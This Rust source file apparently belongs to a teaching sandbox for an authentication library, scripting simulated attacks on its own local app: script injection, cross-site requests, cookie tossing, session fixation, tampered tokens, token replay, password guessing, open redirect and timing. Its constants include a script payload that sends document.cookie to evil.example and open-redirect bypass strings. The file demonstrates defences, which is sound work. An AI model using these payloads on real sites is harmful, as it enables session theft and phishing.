//! What happens in each attack. The pages say the same: `learn/src/attacks`.

use crate::{attacks::AttackName, sandbox::Party};
use axum::http::{HeaderValue, Request, header};
use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use super::{
    SandboxError,
    actor::{ACCESS, Actor, Asked, FETCH_SITE, REFRESH, part_of},
    flows::{Played, grow_stale, sign_in_with},
    stage::{PASSWORD, Stage},
};

/// Two names that nobody has.
const NAMES: [&str; 2] = [
    "<script>fetch('//evil.example/?'+document.cookie)</script>",
    "<img src=x onerror=\"location='//evil.example'\">",
];

/// Where another site's page would be, on this very machine: another origin all the same.
const ELSEWHERE: &str = "http://127.0.0.1:8080";

/// What people have for passwords.
const GUESSES: [&str; 4] = ["123456789", "ann-1984", "letmein!", "qwertyuiop"];

/// Where a link in a mail might want to lead, and a place on this site.
const TARGETS: [&str; 5] = [
    "//evil.example",
    "https://evil.example",
    "/\\evil.example",
    "%2F%2Fevil.example",
    "/account/sessions",
];

/// Performs that attack.
pub async fn perform(attack: AttackName, stage: &mut Stage<'_>) -> Played {
    match attack {
        AttackName::ScriptInjection => script_injection(stage).await,
        AttackName::CrossSite => cross_site(stage).await,
        AttackName::CookieTossing => cookie_tossing(stage).await,
        AttackName::SessionFixation => session_fixation(stage).await,
        AttackName::TamperedToken => tampered_token(stage).await,
        AttackName::ReplayInside => replay_inside(stage).await,
        AttackName::ReplayAfter => replay_after(stage).await,
        AttackName::Guessing => guessing(stage).await,
        AttackName::OpenRedirect => open_redirect(stage).await,
        AttackName::Timing => timing(stage).await,
    }
}

async fn script_injection(stage: &mut Stage<'_>) -> Played {
    let mut browser = stage.member().await?;
    stage.look_for("evil.example");
    for name in NAMES {
        let asked = browser.call("update_account", &[("name", name)]);
        stage.show(&mut browser, asked).await?;
        // So that the page brings cookies along.
        grow_stale(stage);
        let asked = browser.navigate("/account");
        stage.show(&mut browser, asked).await?;
    }
    Ok(())
}

async fn cross_site(stage: &mut Stage<'_>) -> Played {
    let mut browser = stage.member().await?;
    stage.look_for("<h1>");
    for (site, origin) in [
        (Some("cross-site"), Some(ELSEWHERE)),
        (None, Some(ELSEWHERE)),
        (None, None),
    ] {
        let asked = browser.submit("update_account", &[("name", "Mallory")])?;
        let asked = with(with(asked, FETCH_SITE, site)?, header::ORIGIN, origin);
        stage.show(&mut browser, asked).await?;
    }
    stage.look_for("name=\"name\"");
    let asked = browser.navigate("/account");
    stage.show(&mut browser, asked).await
}

async fn cookie_tossing(stage: &mut Stage<'_>) -> Played {
    let mut browser = stage.member().await?;
    let mallory = stage.mallory().await?;
    let (own, foreign) = (access(&browser)?, access(&mallory)?);
    let own = format!("{ACCESS}={own}");
    for line in [
        own.clone(),
        format!("monban_access={foreign}; {own}"),
        format!("{own}; {ACCESS}={foreign}"),
        format!("{ACCESS}={foreign}; {own}"),
    ] {
        let asked = with(browser.ask("who_am_i")?, header::COOKIE, Some(&line));
        stage.show(&mut browser, asked).await?;
    }
    Ok(())
}

async fn session_fixation(stage: &mut Stage<'_>) -> Played {
    stage.member().await?;
    let mut mallory = stage.mallory().await?;
    let mut browser = mallory.copy(Party::Browser);
    let asked = browser.ask("who_am_i");
    stage.show(&mut browser, asked).await?;
    let asked = sign_in_with(&browser, stage, PASSWORD);
    stage.show(&mut browser, asked).await?;
    let asked = browser.ask("who_am_i");
    stage.show(&mut browser, asked).await?;
    let asked = mallory.ask("who_am_i");
    stage.show(&mut mallory, asked).await?;
    let asked = mallory.call("refresh", &[]);
    stage.show(&mut mallory, asked).await
}

async fn tampered_token(stage: &mut Stage<'_>) -> Played {
    let mut browser = stage.member().await?;
    let mut thief = browser.copy(Party::Thief);
    let admin = altered(access(&browser)?, "roles", json!(["admin"]))?;
    let refresh = browser
        .cookie(REFRESH)
        .ok_or(SandboxError::Missing("refresh token"))?;
    let later = altered(refresh, "gen", json!(9))?;

    thief.hold(ACCESS, &admin);
    let asked = thief.ask("who_am_i");
    stage.show(&mut thief, asked).await?;
    thief.hold(REFRESH, &later);
    let asked = thief.call("refresh", &[]);
    stage.show(&mut thief, asked).await?;
    let app = stage.native_client().await?;
    let token = app.bearer().ok_or(SandboxError::Missing("access token"))?;
    let admin = altered(token, "roles", json!(["admin"]))?;
    let mut thief = Actor::new(Party::Thief);
    let asked = thief.get_as("/session", &admin);
    stage.show(&mut thief, asked).await?;
    let asked = browser.ask("who_am_i");
    stage.show(&mut browser, asked).await
}

async fn replay_inside(stage: &mut Stage<'_>) -> Played {
    let mut browser = stage.member().await?;
    let mut thief = browser.copy(Party::Thief);
    let window = stage.world.settings().sessions.refresh_window;
    grow_stale(stage);
    let asked = browser.call("refresh", &[]);
    stage.show(&mut browser, asked).await?;
    stage.wait(window / 3);
    let asked = thief.call("refresh", &[]);
    stage.show(&mut thief, asked).await?;
    let asked = thief.ask("who_am_i");
    stage.show(&mut thief, asked).await?;

    // Both go on.
    grow_stale(stage);
    let asked = browser.call("refresh", &[]);
    stage.show(&mut browser, asked).await?;
    let asked = browser.ask("who_am_i");
    stage.show(&mut browser, asked).await?;
    stage.wait(window);
    let asked = thief.call("refresh", &[]);
    stage.show(&mut thief, asked).await
}

async fn replay_after(stage: &mut Stage<'_>) -> Played {
    let mut browser = stage.member().await?;
    let mut thief = browser.copy(Party::Thief);
    grow_stale(stage);
    let asked = browser.call("refresh", &[]);
    stage.show(&mut browser, asked).await?;
    let asked = browser.ask("who_am_i");
    stage.show(&mut browser, asked).await?;
    stage.wait(stage.world.settings().sessions.refresh_window);
    let asked = thief.call("refresh", &[]);
    stage.show(&mut thief, asked).await?;
    let asked = browser.ask("who_am_i");
    stage.show(&mut browser, asked).await
}

async fn guessing(stage: &mut Stage<'_>) -> Played {
    let mut browser = stage.member().await?;
    let mut thief = Actor::new(Party::Thief);
    for password in GUESSES.into_iter().chain([PASSWORD]) {
        let asked = sign_in_with(&thief, stage, password);
        stage.show(&mut thief, asked).await?;
    }
    let asked = sign_in_with(&browser, stage, PASSWORD);
    stage.show(&mut browser, asked).await
}

async fn open_redirect(stage: &mut Stage<'_>) -> Played {
    stage.member().await?;
    for next in TARGETS {
        let mut browser = Actor::new(Party::Browser);
        let form = [
            ("email", stage.email.as_str()),
            ("password", PASSWORD),
            ("keep", "true"),
            ("next", next),
        ];
        let asked = browser.submit("sign_in", &form);
        stage.show(&mut browser, asked).await?;
    }
    Ok(())
}

/// One of each, to read; [`super::timing`] measures many.
async fn timing(stage: &mut Stage<'_>) -> Played {
    stage.member().await?;
    let mut thief = Actor::new(Party::Thief);
    for email in [
        stage.email.clone(),
        stage.email.replacen("ann", "nobody", 1),
    ] {
        let form = [
            ("email", email.as_str()),
            ("password", GUESSES[0]),
            ("keep", "true"),
        ];
        let asked = thief.call("sign_in", &form);
        stage.show(&mut thief, asked).await?;
    }
    Ok(())
}

fn access(actor: &Actor) -> Result<&str, SandboxError> {
    let token = actor.cookie(ACCESS);
    token.ok_or(SandboxError::Missing("access token"))
}

/// The request with that header, or without it.
fn with(mut asked: Request<String>, name: header::HeaderName, value: Option<&str>) -> Asked {
    let headers = asked.headers_mut();
    headers.remove(&name);
    if let Some(value) = value {
        let value = HeaderValue::try_from(value).map_err(axum::http::Error::from)?;
        headers.insert(name, value);
    }
    Ok(asked)
}

/// The token with another claim and the signature that it had.
fn altered(token: &str, claim: &str, value: Value) -> Result<String, SandboxError> {
    let parts: Vec<_> = token.split('.').collect();
    let (Some(mut claims), [header, _, signature]) = (part_of(token, 1), parts.as_slice()) else {
        return Err(SandboxError::Missing("claim"));
    };
    claims[claim] = value;
    let claims = URL_SAFE_NO_PAD.encode(claims.to_string());
    Ok(format!("{header}.{claims}.{signature}"))
}
